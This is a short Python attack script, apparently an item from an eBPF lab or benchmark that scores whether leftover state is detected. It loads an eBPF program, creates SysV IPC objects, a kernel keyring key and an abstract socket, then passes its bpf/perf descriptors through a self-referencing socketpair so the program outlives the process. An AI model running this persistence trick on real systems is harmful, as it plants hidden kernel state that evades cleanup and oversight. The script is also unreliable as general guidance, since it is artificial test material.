# attack: Leaves IPC objects, abstract sockets, keys, and a program in a socket that holds itself.
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

from pathlib import Path

from bcc import BPF

b = BPF(src_file=str(Path(__file__).with_name("directory_create.c")))

import array
import ctypes
import os
import socket

libc = ctypes.CDLL(None)
libc.shmget(0x1ABEB9F, 1 << 20, 0o1666)
libc.msgget(0x1ABEB9F, 0o1666)
libc.semget(0x1ABEB9F, 1, 0o1666)
libc.syscall(248, b"user", b"labebpf-attack", b"x", 1, -4)
abstract = socket.socket(socket.AF_UNIX)
abstract.bind("\0labebpf-attack")
one, other = socket.socketpair()
held = [one.fileno(), other.fileno()]
for fd in range(3, 64):
    try:
        kind = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    held += [fd] if "bpf" in kind or "perf" in kind else []
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", held))]
one.sendmsg([b"x"], rights)
other.sendmsg([b"x"], rights)
print("left", flush=True)
os._exit(0)
